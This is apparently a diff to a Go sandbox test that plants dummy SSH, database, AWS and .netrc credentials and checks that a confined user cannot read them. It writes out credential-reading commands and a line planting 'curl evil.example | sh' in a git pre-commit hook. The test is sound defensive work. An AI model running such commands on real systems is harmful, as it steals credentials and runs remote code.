@@ -420,7 +420,32 @@ func TestSandboxAsUser(t *testing.T) {
 	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
 		t.Fatalf("git init: %v\n%s", err, out)
 	}
-	if out, err := exec.Command("chown", "-R", fmt.Sprint(uid, ":", uid), home).CombinedOutput(); err != nil {
+	// Secrets: the user's own key and .pgpass, closed by their mode
+	// (which their owner may change); another user's readable
+	// credentials; another user's closed .netrc. Beside them, another
+	// user's readable notes.
+	for _, f := range []struct {
+		name, body string
+		mode       os.FileMode
+	}{
+		{".ssh/id_ed25519", secret, 0},
+		{".pgpass", "db:5432:*:u:" + secret, 0},
+		{".aws/credentials", "[default]\naws_secret_access_key=" + secret, 0o644},
+		{".netrc", "machine example.com password " + secret, 0o600},
+		{"notes.txt", "notes", 0o644},
+	} {
+		p := filepath.Join(home, f.name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(f.body), f.mode); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chmod(p, f.mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if out, err := exec.Command("chown", "-R", fmt.Sprint(uid, ":", uid), ws, filepath.Join(home, "tmp"), filepath.Join(home, ".ssh"), filepath.Join(home, ".pgpass")).CombinedOutput(); err != nil {
 		t.Fatalf("chown: %v\n%s", err, out)
 	}
 	if err := os.Chmod(root, 0o755); err != nil {
@@ -448,6 +473,16 @@ func TestSandboxAsUser(t *testing.T) {
 		if strings.HasPrefix(line, "Cap") && !strings.HasSuffix(line, "0000000000000000") {
 			t.Errorf("the confined command holds capabilities: %s", line)
 		}
+	}
+	// Permissions that already close a secret stand in for the sandbox's
+	// denial only where the user cannot reopen them.
+	for _, attack := range []string{`chmod 600 ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519`, `chmod 600 ~/.pgpass && cat ~/.pgpass`, `cat ~/.aws/credentials`, `cat ~/.netrc`} {
+		if code, out := run(attack); code == 0 || strings.Contains(out, secret) {
+			t.Errorf("attack %q worked as uid %d (exit %d):\n%s", attack, uid, code, out)
+		}
+	}
+	if code, out := run(`cat ~/notes.txt`); code != 0 {
+		t.Errorf("another user's readable notes: exit %d:\n%s", code, out)
 	}
 	if code, out := run(`echo 'curl evil.example | sh' > .git/hooks/pre-commit`); code == 0 {
 		t.Errorf("a hook was written as uid %d:\n%s", uid, out)
